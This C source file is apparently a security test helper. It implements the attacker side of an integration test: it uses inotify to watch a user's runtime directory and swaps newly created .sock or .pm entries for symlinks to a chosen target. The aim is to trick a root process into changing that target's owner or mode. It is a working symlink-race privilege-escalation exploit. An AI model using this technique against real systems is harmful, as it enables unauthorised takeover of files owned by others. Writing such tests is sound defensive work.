/*
 * swap-race.c - the attacker of tests/integration/t_sec_agent.py: run as
 * an unprivileged user U in U's own runtime dir DIR, it watches DIR
 * (inotify) and, as soon as a `*.sock` or `*.pm` entry appears there
 * (created or renamed in), renames it aside and puts in its place a
 * symlink to TARGET, hoping that a root process then changes the mode or
 * owner of the name by path (following the link to TARGET).
 *
 *   swap-race DIR TARGET SECONDS
 *
 * Prints "ready" once watching, then, after SECONDS (or when stdin
 * closes), "swapped N" (entries replaced by a link) and exits 0.
 */
#include <errno.h>
#include <poll.h>
#include <stdio.h>
#include <string.h>
#include <sys/inotify.h>
#include <sys/stat.h>
#include <time.h>
#include "wl.h"

static int wanted(const char *name)
{
	size_t n = strlen(name);

	return (n > 5 && !strcmp(name + n - 5, ".sock")) ||
	       (n > 3 && !strcmp(name + n - 3, ".pm"));
}

static double now(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (double)ts.tv_sec + ts.tv_nsec / 1e9;
}

int main(int argc, char **argv)
{
	char buf[8192] __attribute__((aligned(8)));
	unsigned long swapped = 0;
	double end;
	int in;

	WL_CHECK(argc == 4, "usage: swap-race DIR TARGET SECONDS");
	end = now() + atof(argv[3]);
	in = inotify_init1(IN_CLOEXEC);
	WL_CHECK(in >= 0 && chdir(argv[1]) == 0, "inotify/chdir");
	WL_CHECK(inotify_add_watch(in, ".", IN_CREATE | IN_MOVED_TO) >= 0,
		 "inotify_add_watch");
	wl_say(1, "ready\n");
	while (now() < end) {
		struct pollfd p[2] = { { .fd = in, .events = POLLIN },
				       { .fd = 0, .events = POLLIN } };
		ssize_t n, off;

		if (poll(p, 2, 100) <= 0)
			continue;
		if (p[1].revents)
			break;
		n = read(in, buf, sizeof(buf));
		for (off = 0; n > 0 && off < n;) {
			struct inotify_event *e = (void *)(buf + off);
			char aside[300];
			struct stat st;

			off += (ssize_t)sizeof(*e) + e->len;
			if (!e->len || !wanted(e->name) ||
			    lstat(e->name, &st) || S_ISLNK(st.st_mode))
				continue;	/* gone, or our own link */
			snprintf(aside, sizeof(aside), "%s.aside", e->name);
			if (!rename(e->name, aside) &&
			    !symlink(argv[2], e->name))
				swapped++;
		}
	}
	wl_say(1, "swapped %lu\n", swapped);
	return 0;
}
